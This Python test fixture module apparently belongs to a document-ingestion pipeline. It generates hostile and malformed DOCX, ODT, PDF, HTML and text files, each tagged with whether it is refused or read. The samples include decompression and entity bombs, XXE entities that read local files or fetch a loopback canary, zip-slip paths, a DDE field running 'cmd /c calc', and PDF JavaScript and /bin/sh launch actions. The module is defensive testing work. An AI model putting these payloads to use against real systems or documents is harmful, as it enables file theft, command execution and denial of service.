"""Hostile and odd files, each made here: bombs, loops, truncations, passwords, polyglots, wrong endings.

`KINDS` maps a name with its ending to what makes the bytes and what becomes of it: `refused`, `read`, or `either` where
tolerant readers differ and only its cost is bounded. `HEAVY` are those that take seconds. What a file tries to fetch is
`CANARY`, at a port of this process's own; what it tries to steal is this file, which holds `STOLEN_WORDS`.
"""

from __future__ import annotations

import functools
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final, Literal, NamedTuple

from tests.ingest.conftest import MAIN_TYPE, ODF, RELATIONS, W, raw_pdf, write_pdf

Outcome = Literal["refused", "read", "either"]
Parts = dict[str, str | bytes]

PORT: Final = 20_000 + os.getpid() % 10_000
CANARY: Final = f"http://127.0.0.1:{PORT}/canary"
STOLEN: Final = Path(__file__).resolve().as_posix()
STOLEN_WORDS: Final = "words that stand in this file and in none that is made here"
WORDS: Final = "The provider answers every request of the customer within four hours of its receipt."
PARAGRAPH: Final = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"
SHOWN: Final = f"BT /F1 10 Tf 72 700 Td ({WORDS}) Tj ET\n".encode()
EICAR: Final = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""A harmless text that scanners of viruses take for one."""


class Kind(NamedTuple):
    """How a file is made and what becomes of it."""

    make: Callable[[], bytes]
    outcome: Outcome


def packed(parts: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive of the parts, in their order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(body: str = PARAGRAPH, head: str = "") -> Parts:
    """The parts of a Word file; `head` stands before the root of the main one."""
    relation = f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/>'
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{relation}</Relationships>",
        "word/document.xml": f'{head}<w:document xmlns:w="{W}" xmlns:r="{RELATIONS}"><w:body>{body}</w:body></w:document>',
    }


def odt(body: str = f"<text:p>{WORDS}</text:p>", head: str = "", styles: str = "") -> Parts:
    """The parts of an OpenDocument text."""
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f"{head}<office:document-content {ODF}><office:automatic-styles>{styles}</office:automatic-styles>"
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>",
        "styles.xml": f"<office:document-styles {ODF}/>",
        "META-INF/manifest.xml": "<manifest/>",
    }


def related(target: str, kind: str, mode: str = "External") -> str:
    """The relations of a Word file's main part: one, that leads to `target`."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def deflated(size: int, times: int = 1) -> bytes:
    """`size` zeros in a zlib stream, which is packed `times` in all."""
    packer = zlib.compressobj(9)
    block = b"0" * (1 << 20)
    data = b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def lying(data: bytes, true: int, told: int) -> bytes:
    """An archive whose headers tell another size of a part."""
    return data.replace(struct.pack("<I", true), struct.pack("<I", told))


def flagged(parts: Parts) -> bytes:
    """An archive whose directory says that its parts are encrypted."""
    data = bytearray(packed(parts))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def doubled(second: str) -> bytes:
    """A Word file with a second main part under a name that readers take for the same."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in word().items():
            archive.writestr(name, content)
        archive.writestr(zipfile.ZipInfo(second), "another")
    return buffer.getvalue()


def overlapping() -> bytes:
    """A Word file one of whose parts begins inside another."""
    data = bytearray(packed(word(), zipfile.ZIP_STORED))
    last = data.rfind(b"PK\x01\x02")
    data[last + 42 : last + 46] = struct.pack("<I", 10)
    return bytes(data)


def linked() -> bytes:
    """A Word file with an entry that unpacks as a symbolic link, and entries that climb out of the folder."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in word().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, STOLEN)
        for name in ("../../../canary.txt", "/tmp/canary.txt", "C:\\canary.txt", "..\\canary.txt"):
            archive.writestr(zipfile.ZipInfo(name), "canary")
    return buffer.getvalue()


def encoded(parts: Parts, encoding: str) -> bytes:
    """A Word file whose main part is in another encoding."""
    text = str(parts["word/document.xml"])
    return packed({**parts, "word/document.xml": f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding)})


def entity(declared: str, used: str = "&x;") -> bytes:
    """A Word file that declares an entity and uses it."""
    return packed(word(PARAGRAPH.replace("four", used), f"<!DOCTYPE w [{declared}]>"))


LAUGHS: Final = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))


def in_part(name: str) -> bytes:
    """A Word file with an entity of a stranger in another part than the main one."""
    return packed(word() | {name: f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{STOLEN}">]><r>&x;</r>'})


def pdf(objects: Mapping[int, bytes], root: str = "", trailer: str = "/Root 1 0 R") -> bytes:
    """A PDF of one page with words, some of whose objects are others. 1 is the catalogue, 2 the pages, 3 the page, 4 its
    content, 5 the font."""
    usual = {
        1: f"<< /Type /Catalog /Pages 2 0 R {root} >>".encode(),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        4: b"<< /Length %d >>\nstream\n%b\nendstream" % (len(SHOWN), SHOWN),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    }
    held = {**usual, **objects}
    return write_pdf([held.get(number, b"null") for number in range(1, max(held) + 1)], trailer)


def streamed(content: bytes, filters: str) -> bytes:
    return b"<< /Length %d /Filter [%b] >>\nstream\n%b\nendstream" % (len(content), filters.encode(), content)


def laughing() -> bytes:
    """Drawings that draw the next one ten times, ten levels deep."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>"
    )
    objects = {3: page, 4: streamed(b"/X Do " * 10, "")}
    for at in range(6, 17):
        next_one = b"/XObject << /X %d 0 R >>" % (at + 1) if at < 16 else b""
        objects[at] = (
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << %b >> /Length 60 >>\nstream\n%b\nendstream"
            % (next_one, b"/X Do " * 10)
        )
    return pdf(objects)


def locked_pdf(user: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf({}))))
    writer.encrypt(user_password=user, owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def tree(depth: int, width: int) -> bytes:
    """Pages whose tree names the same node again and again: `width` to the power of `depth` pages."""
    objects = {2: b"<< /Type /Pages /Kids [6 0 R] /Count %d >>" % width**depth}
    for at in range(6, 6 + depth):
        below = at + 1 if at < 5 + depth else 3
        objects[at] = b"<< /Type /Pages /Parent 2 0 R /Kids [%b] /Count 9 >>" % (b"%d 0 R " % below * width)
    return pdf(objects)


def broken_archive(kept: float) -> bytes:
    data = packed(word(PARAGRAPH * 50))
    return data[: int(len(data) * kept)]


def many_pages(count: int) -> bytes:
    kids = b"3 0 R " * count
    return pdf({2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)})


def _old_office(marker: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + marker.encode("utf-16-le") + b"\0" * 100


def _as_text(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return functools.partial(text.encode, encoding)


def _raw(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _pdf(objects: dict[int, bytes], root: str = "", trailer: str = "/Root 1 0 R") -> Callable[[], bytes]:
    return lambda: pdf(objects, root, trailer)


def _word(*args: str, **more: str | bytes) -> Callable[[], bytes]:
    return lambda: packed(word(*args) | more)


def _odt(*args: str, **more: str) -> Callable[[], bytes]:
    return lambda: packed(odt(*args, **more))


def _content(content: bytes, filters: str) -> Callable[[], bytes]:
    return lambda: pdf({4: streamed(content, filters)})


_STYLES = "".join(
    f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>'
    for one, other in ("AB", "BA")
)
_NUMBERS = "99999999999999999999", "-1", "1e9", "NaN", "\u0663"

BOMBS: dict[str, Kind] = {
    "inflated.docx": Kind(lambda: packed(word() | {f"m{n}": b"\0" * 40_000_000 for n in range(3)}), "refused"),
    "ratio.docx": Kind(lambda: packed(word(" " * 30_000_000 + PARAGRAPH)), "refused"),
    "lying-size.docx": Kind(lambda: lying(packed(word() | {"m": b"\0" * 50_000_000}), 50_000_000, 1_000), "either"),
    "entries.docx": Kind(lambda: packed(word() | {f"m{n}": b"" for n in range(2_100)}), "refused"),
    "overlap.docx": Kind(overlapping, "refused"),
    "elements.docx": Kind(lambda: packed(word("<w:p/>" * 400_000)), "refused"),
    "nested.docx": Kind(_word("<w:sdt>" * 20_000 + PARAGRAPH + "</w:sdt>" * 20_000), "refused"),
    "tables.docx": Kind(_word("<w:tbl><w:tr><w:tc>" * 300 + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 300), "refused"),
    "laughs.docx": Kind(lambda: entity(LAUGHS, "&a11;"), "refused"),
    "quadratic.docx": Kind(lambda: entity(f'<!ENTITY x "{"x" * 100_000}">', "&x;" * 10_000), "refused"),
    "attribute.docx": Kind(_word(f'<w:p w:x="{"x" * 9_000_000}"><w:r><w:t>{WORDS}</w:t></w:r></w:p>'), "either"),
    "spans.docx": Kind(
        _word(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{PARAGRAPH}</w:tc></w:tr></w:tbl>'),
        "read",
    ),
    "numbers.docx": Kind(
        _word(
            "".join(
                f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{n}"/><w:numId w:val="{n}"/></w:numPr></w:pPr></w:p>{PARAGRAPH}'
                for n in _NUMBERS
            )
        ),
        "read",
    ),
    "styles-loop.docx": Kind(
        _word(
            PARAGRAPH.replace("<w:r>", '<w:pPr><w:pStyle w:val="A"/></w:pPr><w:r>', 1),
            **{
                "word/styles.xml": f'<w:styles xmlns:w="{W}">{_STYLES}</w:styles>',
                "word/_rels/document.xml.rels": related("styles.xml", "styles", "Internal"),
            },
        ),
        "read",
    ),
    "repeated-cells.odt": Kind(
        _odt(
            '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
            f'table:number-columns-repeated="1000000000"><text:p>{WORDS}</text:p></table:table-cell></table:table-row></table:table>'
        ),
        "read",
    ),
    "spaces.odt": Kind(_odt(f'<text:p>{WORDS}<text:s text:c="2000000000"/>x</text:p>'), "read"),
    "elements.odt": Kind(_odt("<text:p/>" * 400_000), "refused"),
    "nested.odt": Kind(
        _odt("<text:section>" * 9_000 + f"<text:p>{WORDS}</text:p>" + "</text:section>" * 9_000), "refused"
    ),
    "styles-loop.odt": Kind(
        _odt(
            f'<text:p text:style-name="A">{WORDS}</text:p>',
            styles='<style:style style:name="A" style:parent-style-name="B"/><style:style style:name="B" style:parent-style-name="A"/>',
        ),
        "read",
    ),
    "flate.pdf": Kind(lambda: pdf({4: streamed(deflated(256 << 20), "/FlateDecode")}), "refused"),
    "flate-in-flate.pdf": Kind(
        lambda: pdf({4: streamed(deflated(256 << 20, 3), "/FlateDecode /FlateDecode /FlateDecode")}), "refused"
    ),
    "runlength.pdf": Kind(_content(b"\x81a" * 7_000, "/RunLengthDecode " * 1), "either"),
    "runlength-in-flate.pdf": Kind(
        lambda: pdf({4: streamed(zlib.compress(b"\x81a" * 3_000_000, 9), "/FlateDecode /RunLengthDecode")}), "refused"
    ),
    "hexadecimal.pdf": Kind(_content(b"41" * 2_000_000 + b">", "/ASCIIHexDecode"), "either"),
    "filters.pdf": Kind(_content(b"x" * 100, "/ASCIIHexDecode " * 5_000), "either"),
    "drawings.pdf": Kind(laughing, "refused"),
    "wide-tree.pdf": Kind(lambda: tree(9, 9), "refused"),
    "many-pages.pdf": Kind(lambda: many_pages(100_000), "refused"),
    "arrays.pdf": Kind(lambda: pdf({6: b"[" * 100_000 + b"]" * 100_000}, "/Names 6 0 R"), "either"),
    "sparse.pdf": Kind(lambda: b"%PDF-1.7\n" + b"\0" * 31_000_000, "refused"),
    "deep.html": Kind(lambda: b"<div>" * 50_000 + WORDS.encode(), "refused"),
    "elements.html": Kind(lambda: b"<p>x</p>" * 400_000, "refused"),
    "attributes.html": Kind(lambda: f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>{WORDS}</p>".encode(), "either"),
    "laughs.html": Kind(lambda: f"<!DOCTYPE html [{LAUGHS}]><p>{WORDS} &a11;</p>".encode(), "read"),
    "line.txt": Kind(lambda: WORDS.encode() * 100_000, "refused"),
    "aliases.md": Kind(
        lambda: (
            "---\na: &a [x,x]\n" + "".join(f"b{n}: &b{n} [*a,*a]\n" for n in range(99)) + f"---\n{WORDS}"
        ).encode(),
        "read",
    ),
    "large.txt": Kind(lambda: b"words " * 3_400_000, "refused"),
}
"""What costs much more than it seems to."""

LOOPS: dict[str, Kind] = {
    "page-tree.pdf": Kind(_pdf({2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "refused"),
    "parents.pdf": Kind(_pdf({2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>"}), "either"),
    "contents.pdf": Kind(_pdf({4: b"[4 0 R]"}), "either"),
    "references.pdf": Kind(_pdf({4: b"6 0 R", 6: b"4 0 R"}), "either"),
    "xref.pdf": Kind(lambda: pdf({}, trailer="/Root 1 0 R /Prev 9"), "either"),
    "form.pdf": Kind(
        _pdf(
            {
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>",
                4: streamed(SHOWN + b"/X Do", ""),
                6: b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream",
            }
        ),
        "either",
    ),
    "outline.pdf": Kind(_pdf({6: b"<< /First 6 0 R /Next 6 0 R /Title (x) >>"}, "/Outlines 6 0 R"), "read"),
    "fields.pdf": Kind(
        _pdf({6: b"<< /Fields [7 0 R] >>", 7: b"<< /T (x) /Kids [7 0 R] /Parent 7 0 R >>"}, "/AcroForm 6 0 R"), "read"
    ),
    "relations.docx": Kind(
        _word(**{"word/_rels/document.xml.rels": related("document.xml", "header", "Internal")}), "either"
    ),
}
"""What leads to itself."""

STRANGERS: dict[str, Kind] = {
    "file.docx": Kind(lambda: entity(f'<!ENTITY x SYSTEM "file://{STOLEN}">'), "refused"),
    "network.docx": Kind(lambda: entity(f'<!ENTITY x SYSTEM "{CANARY}">'), "refused"),
    "parameter.docx": Kind(lambda: entity(f'<!ENTITY % p SYSTEM "{CANARY}"> %p;', ""), "refused"),
    "subset.docx": Kind(lambda: packed(word(head=f'<!DOCTYPE w SYSTEM "{CANARY}">')), "refused"),
    "utf-16.docx": Kind(
        lambda: encoded(word(PARAGRAPH, f'<!DOCTYPE w [<!ENTITY x SYSTEM "{CANARY}">]>'), "utf-16"), "refused"
    ),
    "utf-7.docx": Kind(
        lambda: encoded(word(PARAGRAPH, f'<!DOCTYPE w [<!ENTITY x SYSTEM "{CANARY}">]>'), "utf-7"), "refused"
    ),
    "types-entity.docx": Kind(lambda: in_part("[Content_Types].xml"), "refused"),
    "relations-entity.docx": Kind(lambda: in_part("word/_rels/document.xml.rels"), "refused"),
    "content-entity.odt": Kind(_odt(head=f'<!DOCTYPE o [<!ENTITY x SYSTEM "file://{STOLEN}">]>'), "refused"),
    "xinclude.docx": Kind(
        _word(PARAGRAPH + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{CANARY}" parse="text"/>'),
        "read",
    ),
    "stylesheet.docx": Kind(_word(PARAGRAPH, f'<?xml-stylesheet href="{CANARY}"?>'), "read"),
    "template.docx": Kind(_word(**{"word/_rels/settings.xml.rels": related(CANARY, "attachedTemplate")}), "read"),
    "picture.docx": Kind(_word(**{"word/_rels/document.xml.rels": related(CANARY, "image")}), "read"),
    "header.docx": Kind(_word(**{"word/_rels/document.xml.rels": related(f"file://{STOLEN}", "header")}), "either"),
    "field.docx": Kind(
        _word(
            PARAGRAPH + f'<w:p><w:r><w:instrText>INCLUDETEXT "{CANARY}" DDEAUTO cmd "/c calc"</w:instrText></w:r></w:p>'
        ),
        "read",
    ),
    "chunk.docx": Kind(
        _word(
            PARAGRAPH + '<w:altChunk r:id="r9"/>',
            **{"word/_rels/document.xml.rels": related("chunk.html", "aFChunk")},
        ),
        "read",
    ),
    "links.docx": Kind(linked, "read"),
    "page.html": Kind(
        _as_text(
            f"<html><head><base href='{CANARY}'><meta http-equiv=refresh content='0;url={CANARY}'><link rel=stylesheet "
            f"href='{CANARY}'></head><body><p>{WORDS}</p><img src='{CANARY}'><iframe src='file://{STOLEN}'></iframe></body>"
        ),
        "read",
    ),
    "xhtml.html": Kind(
        _as_text(
            f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file://{STOLEN}">]><html><p>{WORDS} &x;</p></html>'
        ),
        "read",
    ),
    "script.pdf": Kind(
        _pdf({6: f"<< /S /JavaScript /JS (app.launchURL\\('{CANARY}'\\)) >>".encode()}, "/OpenAction 6 0 R"), "read"
    ),
    "launch.pdf": Kind(_pdf({6: b"<< /S /Launch /F (/bin/sh) >>"}, "/OpenAction 6 0 R"), "read"),
    "address.pdf": Kind(_pdf({6: f"<< /S /URI /URI ({CANARY}) >>".encode()}, "/OpenAction 6 0 R"), "read"),
    "outside.pdf": Kind(
        _pdf({4: f"<< /Length 0 /F << /FS /URL /F ({CANARY}) >> >>\nstream\n\nendstream".encode()}), "refused"
    ),
    "map.pdf": Kind(
        _pdf(
            {
                5: f"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding (/{STOLEN}.pickle) /DescendantFonts [] >>".encode()
            }
        ),
        "either",
    ),
    "form-data.pdf": Kind(
        _pdf(
            {
                6: streamed(f'<!DOCTYPE x [<!ENTITY x SYSTEM "{CANARY}">]><x>&x;</x>'.encode(), ""),
                7: b"<< /XFA 6 0 R /Fields [] >>",
            },
            "/AcroForm 7 0 R",
        ),
        "read",
    ),
    "attachment.pdf": Kind(
        _pdf(
            {
                6: b"<< /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >>",
                7: b"<< /EF << /F 8 0 R >> >>",
                8: streamed(b"MZ", ""),
            },
            "/Names 6 0 R",
        ),
        "read",
    ),
}
"""What would fetch, run or show something of somebody else's."""

BROKEN: dict[str, Kind] = {
    "half.docx": Kind(lambda: broken_archive(0.5), "refused"),
    "tail.docx": Kind(lambda: broken_archive(0.97), "refused"),
    "head.docx": Kind(_raw(b"PK\x03\x04"), "refused"),
    "no-document.docx": Kind(lambda: packed({k: v for k, v in word().items() if "document" not in k}), "refused"),
    "no-types.docx": Kind(lambda: packed({k: v for k, v in word().items() if "Types" not in k}), "refused"),
    "empty-part.docx": Kind(lambda: packed(word() | {"word/document.xml": ""}), "refused"),
    "cut-part.docx": Kind(
        lambda: packed(word() | {"word/document.xml": str(word()["word/document.xml"])[:-30]}), "refused"
    ),
    "nul.docx": Kind(_word(PARAGRAPH + "\0"), "refused"),
    "checksum.docx": Kind(lambda: packed(word(), zipfile.ZIP_STORED).replace(b"four hours", b"nine hours"), "refused"),
    "duplicate.docx": Kind(lambda: doubled("WORD/document.xml"), "refused"),
    "backslash.docx": Kind(lambda: doubled("word\\document.xml"), "refused"),
    "lzma.docx": Kind(lambda: packed(word(), zipfile.ZIP_LZMA), "refused"),
    "flagged.docx": Kind(lambda: flagged(word()), "refused"),
    "no-content.odt": Kind(lambda: packed({k: v for k, v in odt().items() if k != "content.xml"}), "refused"),
    "half.odt": Kind(lambda: packed(odt())[:300], "refused"),
    "half.pdf": Kind(lambda: (data := pdf({}))[: len(data) // 3], "refused"),
    "no-xref.pdf": Kind(lambda: pdf({}).partition(b"xref\n0")[0], "either"),
    "garbage.pdf": Kind(lambda: pdf({4: b"\xff" * 4_000}), "either"),
    "length.pdf": Kind(lambda: pdf({4: b"<< /Length -1 >>\nstream\n%b\nendstream" % SHOWN}), "either"),
    "long-length.pdf": Kind(lambda: pdf({4: b"<< /Length 99999999999 >>\nstream\n%b\nendstream" % SHOWN}), "either"),
    "size.pdf": Kind(lambda: pdf({}).replace(b"/Size 6", b"/Size 999999999"), "either"),
    "no-pages.pdf": Kind(_pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "refused"),
    "no-catalogue.pdf": Kind(_pdf({1: b"null"}), "refused"),
    "boxes.pdf": Kind(lambda: pdf({}).replace(b"[0 0 612 792]", b"[-1e9 0 1e9 0]"), "either"),
    "header.pdf": Kind(_raw(b"%PDF-1.7\n%%EOF"), "refused"),
    "utf-16.txt": Kind(_raw(b"\xff\xfea\x00b"), "refused"),
    "nul.txt": Kind(_raw(b"words\0words"), "refused"),
    "controls.md": Kind(_raw(b"abc" + bytes(range(1, 9)) * 50), "refused"),
    "shift-jis.txt": Kind(_raw("契約書の条項".encode("shift-jis")), "refused"),
    "empty.txt": Kind(_raw(b""), "refused"),
    "byte.txt": Kind(_raw(b"\x80"), "refused"),
    "script.html": Kind(_raw(b"<html><script>let a = 1</script></html>"), "refused"),
    "picture.pdf": Kind(lambda: raw_pdf([b"0 0 100 100 re f"]), "refused"),
}
"""What is damaged, cut or empty."""

LOCKED: dict[str, Kind] = {
    "password.pdf": Kind(lambda: locked_pdf("secret"), "refused"),
    "owner.pdf": Kind(lambda: locked_pdf(""), "read"),
    "password.docx": Kind(lambda: _old_office("EncryptedPackage"), "refused"),
    "password.odt": Kind(lambda: packed(odt() | {"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "refused"),
}

MISNAMED: dict[str, Kind] = {
    **{
        f"{what}.{ending}": Kind(_raw(data), "refused")
        for what, data in {
            "program": b"MZ\x90\x00" + b"\0" * 200,
            "elf": b"\x7fELF" + b"\0" * 200,
            "picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
            "rich": b"{\\rtf1 Hello}",
            "gzip": b"\x1f\x8b\x08" + b"\0" * 60,
        }.items()
        for ending in ("docx", "pdf", "txt", "html", "odt")
    },
    "text.docx": Kind(_raw(WORDS.encode()), "refused"),
    "page.pdf": Kind(_raw(b"<html><body>%PDF-1.7</body></html>"), "refused"),
    "page.txt": Kind(_raw(b"<html><body>Hi</body></html>"), "refused"),
    "paper.docx": Kind(lambda: pdf({}), "refused"),
    "word.pdf": Kind(lambda: packed(word()), "refused"),
    "word.odt": Kind(lambda: packed(word()), "refused"),
    "archive.docx": Kind(lambda: packed({"a.txt": WORDS}), "refused"),
    "macros.docx": Kind(
        lambda: packed(
            word() | {"[Content_Types].xml": '<T><O ContentType="x.word.document.macroEnabled.main+xml"/></T>'}
        ),
        "refused",
    ),
    "sheet.docx": Kind(
        lambda: packed({"[Content_Types].xml": '<T><O ContentType="x.spreadsheetml.sheet.main+xml"/></T>'}), "refused"
    ),
    "old.docx": Kind(lambda: _old_office("WordDocument"), "refused"),
    "macros.docm": Kind(lambda: packed(word()), "refused"),
    "program.exe": Kind(_raw(b"MZ\x90\x00" + b"\0" * 200), "refused"),
    "picture.svg": Kind(_raw(b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"), "refused"),
    "data.xml": Kind(_raw(b"<?xml version='1.0'?><a/>"), "refused"),
    "pdf-and-zip.pdf": Kind(lambda: pdf({}) + packed(word()), "either"),
    "zip-and-pdf.docx": Kind(lambda: packed(word()) + pdf({}), "either"),
    "program-and-zip.docx": Kind(lambda: b"MZ\x90\x00" + b"\0" * 60 + packed(word()), "refused"),
    "late.pdf": Kind(lambda: b" " * 2_000 + pdf({}), "refused"),
}
"""What says of itself that it is something else."""

HARMLESS: dict[str, Kind] = {
    "ordinary.docx": Kind(_word(), "read"),
    "ordinary.odt": Kind(_odt(), "read"),
    "ordinary.pdf": Kind(_pdf({}), "read"),
    "ordinary.txt": Kind(_as_text(WORDS), "read"),
    "ordinary.md": Kind(_as_text(f"# {WORDS}\n\n{WORDS}"), "read"),
    "ordinary.html": Kind(_as_text(f"<!doctype html><p>{WORDS}</p>"), "read"),
    "wide.txt": Kind(_as_text(WORDS, "utf-16"), "read"),
    "western.txt": Kind(_as_text("Les pénalités de retard sont dues dès le lendemain de l'échéance.", "cp1252"), "read"),
    "scanners.txt": Kind(_as_text(EICAR), "read"),
    "signs.md": Kind(_as_text(f"\ufeff\u202e{WORDS}\u202c \x1b[31m\u200b"), "read"),
    "capitals.PDF": Kind(_pdf({}), "read"),
}  # fmt: skip

KINDS: Final = {
    f"{family}-{name}": kind
    for family, kinds in (
        ("bomb", BOMBS), ("loop", LOOPS), ("stranger", STRANGERS), ("broken", BROKEN), ("locked", LOCKED),
        ("misnamed", MISNAMED), ("harmless", HARMLESS),
    )
    for name, kind in kinds.items()
}  # fmt: skip
HEAVY: Final = frozenset({"bomb-many-pages.pdf", "bomb-wide-tree.pdf", "bomb-attributes.html"})
"""What may take the whole time that one file is given."""
